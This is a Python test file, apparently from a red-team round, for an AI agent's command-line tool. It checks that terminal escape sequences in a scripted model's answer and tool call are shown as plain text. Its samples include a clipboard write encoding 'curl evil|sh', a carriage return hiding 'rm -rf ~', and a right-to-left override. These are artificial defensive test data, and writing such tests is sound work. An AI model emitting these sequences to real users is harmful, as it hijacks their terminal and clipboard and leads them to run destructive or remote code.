"""Issue 19, red-team round 3 (a51): the user's terminal is a channel. The model's escape sequences (OSC 52
clipboard write, CSI clear, OSC title, OSC 8 link, a lone CR hiding text) reach neither the final answer nor
the progress line as controls: they are shown as text. Through the real `hermes chat -q`; the REPL's Screen
(the one sink of the interactive CLI) keeps its own colours and shows everything else."""

from __future__ import annotations

import io

from hermes_agent.cli.screen import Screen
from tests.helpers import model_config, run_hermes

ESC = "\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1b]0;PWNTITLE\x07\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\"


def test_chat_q_shows_the_models_escape_sequences_as_text(scripted, hermes_home, outside_dir):
    work = outside_dir / "proj"
    work.mkdir()
    model_config(hermes_home, scripted.url)
    scripted.add({"tool_calls": [{"name": "terminal", "arguments": {"command": f"echo hi # {ESC}"}}]},
                 {"content": f"Done {ESC} safe\rrm -rf ~ \u202eexe.txt"})
    out = run_hermes("chat", "-q", "go", home=hermes_home, cwd=str(work), timeout=120,
                     env={"TERM": "xterm-256color"})
    assert out.returncode == 0, out.stderr
    for stream in (out.stdout, out.stderr):
        assert "\x1b" not in stream and "\x07" not in stream and "\r" not in stream and "\u202e" not in stream
    assert "Done ^[]52;c;Y3VybCBldmlsfHNo^G^[[2J^[]0;PWNTITLE^G" in out.stdout
    assert "safe^Mrm -rf ~ <U+202E>exe.txt" in out.stdout
    assert "echo hi # ^[]52;c;" in out.stderr  # the progress line of the tool call
    sid = out.stderr.split("session ", 1)[1].split()[0]
    shown = run_hermes("sessions", "show", sid, home=hermes_home, timeout=60)
    assert shown.returncode == 0 and "\x1b" not in shown.stdout and "Done ^[]52;c;" in shown.stdout, shown.stdout


def test_the_repl_screen_keeps_its_own_colours_only():
    buf = io.StringIO()
    screen = Screen(buf, color=True, width=80)
    screen.line(f"model says {ESC}", "yellow")
    screen.lines([screen.style("ours", "bold") + " \x1b[8mhidden\x1b[0m"])
    screen.markdown(f"**bold** {ESC}")
    text = buf.getvalue()
    assert "\x1b]" not in text and "\x07" not in text and "\x1b[2J" not in text and "\x1b[8m" not in text
    assert "\x1b[33mmodel says ^[]52;c;" in text and "\x1b[1mours\x1b[0m ^[[8mhidden" in text
    assert "^[]0;PWNTITLE^G" in text.split("\n", 2)[-1]  # the markdown block too
